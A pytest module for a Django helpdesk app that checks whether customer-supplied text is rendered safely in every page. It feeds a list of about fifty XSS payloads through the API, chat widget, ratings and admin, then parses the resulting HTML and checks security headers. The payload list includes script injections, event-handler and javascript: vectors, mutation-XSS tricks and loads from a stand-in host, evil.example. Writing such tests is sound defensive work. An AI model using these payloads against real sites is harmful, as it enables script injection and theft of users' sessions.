"""Whatever a stranger writes, wherever it is shown: text stays text. (That no browser runs it is tested in one.)

Each payload goes through the API into every field that somebody outside can fill, then all pages that show it are
read as HTML: nothing in them may be an element, a handler or an address that we did not write ourselves.
"""

import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client
from django.test.client import ClientHandler
from django.utils import timezone

from channels_custom import services as channels
from helpdesk.cases import services as cases
from helpdesk.cases.models import Case, Message, Notification, Rating
from helpdesk.outbox.models import Attempt, Lane
from helpdesk.users.models import Agent, Company, Conflict, CustomField
from helpdesk.users.models.people import ProfileKind
from helpdesk.users.services import profiles
from helpdesk.widget.services import chats, limits
from rules.models import Action, Rule
from tests import world

pytestmark = [pytest.mark.django_db, pytest.mark.promise("P29", "A15")]

# Each would plant something with the word "planted" in it, were it not taken as text.
PAYLOADS = (
    "<script>planted()</script>",
    "<ScRiPt src=//evil.example/planted.js></sCrIpT>",
    "<scr<script>ipt>planted()</scr</script>ipt>",
    "<img src=x onerror=planted()>",
    "<img src=x onerror\n=\nplanted()>",
    "<img/src='x'/onerror='planted()'>",
    "<svg onload=planted()>",
    "<svg><script>planted()</script></svg>",
    "<svg><animate onbegin=planted() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:planted()'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=planted()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=planted()>'></noscript>",
    "<details open ontoggle=planted()>x</details>",
    "<body onload=planted()>",
    "<input autofocus onfocus=planted()>",
    "<video><source onerror=planted()></video>",
    "<iframe srcdoc='<script>planted()</script>'></iframe>",
    "<object data=data:text/html,planted></object>",
    "<embed src=//evil.example/planted.swf>",
    "<base href=//evil.example/planted/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/planted'>",
    "<link rel=stylesheet href=//evil.example/planted.css>",
    "<style>@import '//evil.example/planted.css'</style>",
    "<form action=//evil.example/planted><button>x</button></form>",
    "<button formaction=//evil.example/planted form=composer>x</button>",
    "<a href='javascript:planted()'>x</a>",
    "<a href='java\tscript:planted()'>x</a>",
    "<a href='&#106;avascript:planted()'>x</a>",
    "<a href='data:text/html,<script>planted()</script>'>x</a>",
    "<a href='//evil.example/planted' target=_blank class=btn>x</a>",
    "<div hx-get=/planted hx-trigger=load>x</div>",
    "<hx-partial hx-target='#thread'>planted</hx-partial>",
    "<div style='background:url(//evil.example/planted)' class=planted id=planted>x</div>",
    "</textarea><script>planted()</script>",
    "</title><script>planted()</script>",
    "</script><script>planted()</script>",
    "'\"><script>planted()</script>",
    "' autofocus onfocus=planted() x='",
    '" onmouseover="planted()" x="',
    "--><script>planted()</script><!--",
    "]]><script>planted()</script>",
    "{{ settings.SECRET_KEY }}{% load planted %}{actor.__class__.planted}%(planted)s{0}",
    "[x](javascript:planted()) ![x](x' onerror='planted())",
    "\u202eplanted\u2066\u200b\u2028planted\u2029",
    "planted" + "\u0301" * 150,
    "＜script＞planted()＜/script＞",
    "http://evil.example/planted'onmouseover='planted()",
    '=HYPERLINK("//evil.example/planted")',
)
# Links of ours; all others come from text.
OURS = re.compile(r"^(/|\?|#|mailto:|https?://)")
LINKS = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc", "background"})
HX_LINKS = frozenset({"hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete"})
NEVER = frozenset({"iframe", "object", "embed", "base", "math", "style", "marquee", "video", "audio", "noscript"})
HANDLER = ClientHandler(enforce_csrf_checks=False)


class Planted(HTMLParser):
    """Collects what is in a page that no page of ours would hold, and the text that people read."""

    def __init__(self, html: str, *, parts: bool = False) -> None:
        """parts: the answer is made of parts of a page, each for its own place."""
        super().__init__()
        self.parts = parts
        self.found: list[str] = []
        self.words: list[str] = []
        self.raw = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, pairs: Any) -> None:
        attrs = {name: value or "" for name, value in pairs}
        self.raw = tag if tag in {"script", "style"} else ""
        data = tag == "script" and attrs.get("type", "").endswith("json")
        never = tag in NEVER or not re.fullmatch(r"[a-z0-9-]+", tag) or (tag == "hx-partial" and not self.parts)
        if never or (tag == "script" and "src" not in attrs and not data):
            self.found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in attrs:
            self.found.append("<meta http-equiv>")
        for name, value in attrs.items():
            if self._is_wrong(tag, name, value):
                self.found.append(f"<{tag} {name}={value[:60]!r}>")

    def _is_wrong(self, tag: str, name: str, value: str) -> bool:
        if name.startswith("on") or name == "style":
            return True
        if name in LINKS or name in HX_LINKS:
            scheme = re.sub(r"[\x00-\x20]", "", value.casefold())
            if name in HX_LINKS and "planted" in value.split("?")[0]:
                return True
            foreign = "evil.example" in value and (tag != "a" or not scheme.startswith(("http:", "https:")))
            return bool(foreign or (scheme and not OURS.match(scheme) and ":" in scheme.split("/")[0]))
        return "planted" in name or ((name.startswith("hx-") or name in {"id", "class"}) and "planted" in value)

    def handle_data(self, data: str) -> None:
        if self.raw != "script":
            self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join("".join(self.words).split())


@pytest.fixture
def channel(settings: Any, tmp_path: Any) -> Any:
    settings.MEDIA_ROOT = tmp_path
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    CustomField.objects.create(key="hobby", title="Hobby", level="user")
    CustomField.objects.create(key="order", title="Order", level="case", kind="textarea")
    rule = Rule.objects.create(list="new", title="Greeting")
    text = "Hello {{ user.name | there }}, about {{ case.subject }}: [company_name] {{ user.cf.hobby }}"
    Action.objects.create(rule=rule, kind="send_message", values={"texts": {"en": text}})
    Action.objects.create(rule=rule, kind="add_note", values={"text": text})
    return world.messenger("http://127.0.0.1:9/hook")


@pytest.fixture
def ada() -> Client:
    page = Client(raise_request_exception=False)
    page.handler = HANDLER
    page.force_login(world.admin())
    return page


@pytest.fixture
def server(ada: Client) -> Callable[..., Any]:
    """The company's server, through which strangers' words come."""
    key = world.api_key(world.admin("Alan"), "admin")
    caller = Client(raise_request_exception=False, headers={"Authorization": f"Bearer {key}"})
    caller.handler = HANDLER

    def call(method: str, path: str, body: Any = None, content_type: str = "application/json") -> Any:
        raw = body if isinstance(body, bytes) else json.dumps(body or {}).encode()
        return caller.generic(method, f"/api/v1/{path}", raw, content_type=content_type)

    return call


def everywhere(payload: str) -> dict[str, Any]:
    """A body that has it in each field that takes text."""
    short = payload[:200]
    return {
        "user_custom_id": payload[:255],
        "user_full_name": short,
        "company_name": short,
        "company_position": short,
        "user_note": payload,
        "language_id": payload[:12],
        "custom_fields": {"hobby": payload, "order": payload},
        "metadata": {"remark": payload},
        "subject": payload[:300],
        "content": payload,
    }


def write(server: Any, channel: Any, payload: str, number: int) -> int:
    """A case with it everywhere, a message of HTML, one with a file, an answer that the channel says failed."""
    made = server("POST", "cases/", {"channel": channel.api_key, **everywhere(payload)})
    assert made.status_code == 201, made.content
    said = made.json()
    in_html = {"user_id": said["user_id"], "content_html": f"<p>{payload}</p>", "external_id": payload[:255]}
    assert server("POST", f"cases/{said['case_id']}/messages/", in_html).status_code in {201, 422}
    body, kind = with_file(payload, number)
    uploaded = server("POST", f"custom_channels/{channel.api_key}/messages/", body, kind)
    assert uploaded.status_code == 201, uploaded.content
    answer = Message.objects.filter(case=said["case_id"], author="rule", note=False).latest("pk")
    failed = {"status": "failed", "reason": payload[:200]}
    assert server("POST", f"messages/{answer.pk}/status/", failed).status_code == 200
    return int(said["case_id"])


def with_file(payload: str, number: int) -> tuple[bytes, str]:
    """A form with a file of this name."""
    name = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "%0A")
    fields = {"user_custom_id": payload[:255], "external_id": f"file {number}", "content": payload}
    parts = [f'--B\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n' for key, value in fields.items()]
    parts.append(f'--B\r\nContent-Disposition: form-data; name="attachments"; filename="{name}"\r\n\r\n{payload}\r\n')
    return ("".join(parts) + "--B--\r\n").encode(), "multipart/form-data; boundary=B"


def read(page: Client, address: str, **headers: str) -> Planted:
    """A page as HTML. It must be one, with its policy, and hold nothing foreign."""
    answer = page.get(address, headers=headers)
    assert answer.status_code == 200, address
    assert answer["Content-Type"].startswith("text/html")
    assert_fenced(answer)
    planted = Planted(answer.content.decode(), parts="HX-Request" in headers)
    assert planted.found == [], address
    return planted


def assert_fenced(answer: Any) -> None:
    policy = dict(part.strip().split(" ", 1) for part in answer["Content-Security-Policy"].split(";") if " " in part)
    assert (policy["default-src"], policy["script-src"], policy["style-src"]) == ("'none'", "'self'", "'self'")
    assert policy["frame-ancestors"] == "'none'"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["X-Frame-Options"] == "DENY"


def visible(payload: str) -> str:
    return " ".join(payload.split())


def test_the_reader_of_this_test_sees_what_is_planted():
    """The other tests are worth something only as long as this one passes."""
    asleep = [payload for payload in PAYLOADS[:33] if not Planted(f"<p>{payload}</p>").found]
    assert asleep == []
    assert Planted("<input value='' autofocus onfocus=planted() x=''>").found
    assert Planted("<b hx-get=//evil.example/>").found
    assert Planted("<a href='/views/all/'>x</a><script src=/static/a.js></script>").found == []


def test_in_the_inbox_and_in_the_api_text_stays_text(server, ada, channel):
    for number, payload in enumerate(PAYLOADS):
        case_id = write(server, channel, payload, number)
        number_of_case = Case.objects.values_list("number", flat=True).get(pk=case_id)
        seen = read(ada, f"/cases/{number_of_case}/")
        assert visible(payload) in seen.text, payload
        read(ada, f"/cases/{number_of_case}/fresh/", **{"HX-Request": "true"})
        for path in (f"cases/{case_id}/", f"cases/{case_id}/messages/", f"cases/{case_id}/changelog/"):
            told = server("GET", path)
            assert (told.status_code, told["Content-Type"]) == (200, "application/json")
            assert told["X-Content-Type-Options"] == "nosniff"
    for address in ("/", "/views/all/", "/views/chats/"):
        assert "planted" in read(ada, address).text
    assert "planted" in read(ada, "/views/all/rows/", **{"HX-Request": "true"}).text
    assert server("GET", "users/").status_code == server("GET", "events/").status_code == 200


def test_a_name_that_only_the_channel_claims_is_text_too(ada, channel):
    for number, payload in enumerate(PAYLOADS):
        bob = profiles.meet(
            ProfileKind.CUSTOM,
            f"bob-{number}",
            channel=channel.channel_ptr,
            display={"name": payload, "picture": payload, "username": payload, "email": payload},
        )
        got = world.says(bob, "hello")
        assert visible(payload) in read(ada, f"/cases/{got.case.number}/").text
        assert visible(payload) in read(ada, f"/people/{bob.person_id}/split/").text
        assert visible(payload) in read(ada, f"/people/{bob.person_id}/ledger/").text
        cases.set_status(got.case, "closed", by=None)


def test_what_a_rule_tells_agents_of_a_customer_is_text_too(ada, channel):
    case = world.says(world.customer(channel), "hello").case
    adas = Agent.objects.get(email="ada@example.com")
    for payload in PAYLOADS:
        cases.set_subject(case, visible(payload)[:200], by=None)
        cases.notify(case, [adas], payload, by=None)
        menu = read(ada, "/notifications/menu/", **{"HX-Request": "true"})
        assert visible(payload) in menu.text, payload
    for page in ("/notifications/", f"/notifications/?before={Notification.objects.all()[24].pk}"):
        assert "planted" in read(ada, page).text


def test_what_a_visitor_of_a_chat_says_is_text_too(ada, channel, client, monkeypatch):
    """Name, address, attributes, the id that a page claims, the text, the name of a file."""
    client.handler = HANDLER
    monkeypatch.setattr(limits, "FILES", limits.Limit(1000, limits.WINDOW))
    monkeypatch.setattr(limits, "SIGNS_IN", limits.Limit(1000, limits.WINDOW))
    chat = chats.make("Chat", by=None)
    here = f"/widget/v1/chat/{chat.widget.public_id}"

    def send(path: str, body: Any, token: str = "", kind: str = "application/json") -> Any:
        raw = body if isinstance(body, bytes) else json.dumps(body).encode()
        headers = {"Authorization": f"Bearer {token}"} if token else None
        answer = client.generic("POST", f"{here}/{path}/", raw, content_type=kind, headers=headers)
        assert answer.status_code < 300, answer.content
        return answer.json()

    for number, payload in enumerate(PAYLOADS):
        attributes = {"name": payload[:200], "email": payload, "hobby": payload, "remark": payload, payload[:100]: "x"}
        token = send("identify", {"id": payload[:255], "attributes": attributes})["token"]
        body, kind = with_file(payload, number)
        body = body.replace(b'name="user_custom_id"', b'name="text"').replace(
            b'name="external_id"', b'name="client_id"'
        )
        body = body.replace(b'name="attachments"', b'name="files"')
        start, end = body.index(b'--B\r\nContent-Disposition: form-data; name="content"'), body.index(b'name="files"')
        said = send("messages", body[:start] + b"--B\r\nContent-Disposition: form-data; " + body[end:], token, kind)
        case = Case.objects.select_related("profile").get(pk=said["conversation"])
        assert visible(payload) in read(ada, f"/cases/{case.number}/").text, payload
        read(ada, f"/people/{case.profile.person_id}/ledger/")
    assert "planted" in read(ada, "/views/chats/").text


def test_what_is_said_with_a_rating_is_text_too(ada, channel, client):
    client.handler = HANDLER
    case = world.says(world.customer(channel), "hello").case
    for payload in PAYLOADS:
        Rating.objects.update(expires_at=timezone.now())  # each text with a link of its own
        rating = cases.request_rating(case, by=None)
        answer = client.post(f"/r/{rating.token}/", {"score": "1", "comment": payload})
        assert answer.status_code == 200, payload
        assert Planted(answer.content.decode()).found == []
        read(client, f"/r/{rating.token}/")
        assert visible(payload[:200]) in read(ada, f"/cases/{case.number}/").text, payload


def test_on_a_conflict_text_stays_text(server, ada, channel):
    for number, payload in enumerate(PAYLOADS):
        for name in ("a", "b"):
            user = {"user_custom_id": f"{name}{number} {payload}"[:255], "user_custom_channel": channel.api_key}
            user |= {"user_full_name": payload[:200], "user_email": f"shared-{number}@example.com"}
            assert server("POST", "users/", user).status_code == 201
        conflict = Conflict.objects.latest("pk")
        assert visible(payload[:240]) in read(ada, f"/conflicts/{conflict.pk}/").text
        verdict = {"verdict": "reject", "reason": payload[:300]}
        assert server("POST", f"conflicts/{conflict.pk}/decide/", verdict).status_code in {200, 422}
        read(ada, f"/conflicts/{conflict.pk}/")
    assert "planted" in read(ada, "/conflicts/?state=decided").text
    assert "planted" in read(ada, "/conflicts/rows/?state=decided", **{"HX-Request": "true"}).text


def test_in_the_admin_text_stays_text(server, ada, channel):
    sent = channels.send_test(channel)
    for number, payload in enumerate(PAYLOADS):
        Company.objects.create(name=payload[:200])
        now = sent.created_at
        Attempt.objects.create(
            job=sent,
            group=channel.lane_group,
            number=number,
            started_at=now,
            seconds=1,
            ok=False,
            status=500,
            error=payload[:200],
            head=payload,
            address=f"http://127.0.0.1:9/{payload}"[:300],
        )
        company = Company.objects.latest("pk")
        for page in ("change", "delete", "history"):
            read(ada, f"/admin/users/company/{company.pk}/{page}/")
        read(ada, f"/admin/channels_custom/customchannel/{channel.pk}/change/")
        for page in ("deliveries/", f"deliveries/{sent.pk}/"):
            seen = read(ada, f"/admin/channels_custom/customchannel/{channel.pk}/{page}")
            assert seen.text.count(visible(payload)) >= 2, payload  # the error, and what the server said
    channels.switch_off(channel, PAYLOADS[0], by=None)
    for address in ("/", "/admin/", "/admin/channels_custom/customchannel/"):
        assert visible(PAYLOADS[0]) in read(ada, address).text
    assert Lane.objects.exists()
    read(ada, "/admin/users/company/")
    read(ada, "/admin/users/company/?q=%3Cscript%3Eplanted()%3C/script%3E")
    read(ada, "/admin/")


def test_what_stands_in_an_address_is_text_too(ada, client):
    client.handler = HANDLER
    for payload in ("<script>planted()</script>", '"><img src=x onerror=planted()>', "javascript:planted()"):
        for address in ("/views/all/", "/accounts/login/", "/admin/users/company/", "/nowhere/"):
            for page in (ada, client):
                for name in ("next", "after", "open", "view", "q", "show", "o", "p"):
                    answer = page.get(address, {name: payload})
                    assert answer.status_code < 500
                    if answer["Content-Type"].startswith("text/html") and answer.content:
                        assert_fenced(answer)
                        assert Planted(answer.content.decode()).found == [], f"{address}?{name}={payload}"


def test_names_show_what_they_are(server, channel):
    """No character turns the direction, hides, or breaks the line in a name that stands beside others."""
    body = {
        **everywhere("x"),
        "user_full_name": "\u202eAnn\u200b \t(agent)\u2066\r\nX-Admin: 1\ufeff",
    }
    made = server("POST", "cases/", {**body, "channel": channel.api_key})
    user = server("GET", f"users/{made.json()['user_id']}/").json()
    assert user["user_full_name"] == "Ann (agent) X-Admin: 1"


def test_letters_that_need_joiners_keep_them(server, channel):
    for name in ("نمی\u200cخواهم", "👩\u200d🚀 Ada"):
        made = server("POST", "cases/", {"channel": channel.api_key, **everywhere("x"), "user_full_name": name})
        assert server("GET", f"users/{made.json()['user_id']}/").json()["user_full_name"] == name


def test_error_pages_are_fenced_as_well(ada, client, monkeypatch):
    client.handler = HANDLER
    client.raise_request_exception = False
    ada_breaks = "helpdesk.inbox.views.lists.frame"
    monkeypatch.setattr(ada_breaks, lambda *args, **more: 1 / 0)
    for page, address, status in ((ada, "/", 500), (client, "/nowhere/", 404), (ada, "/cases/000-000000/", 404)):
        answer = page.get(address)
        assert answer.status_code == status
        assert_fenced(answer)
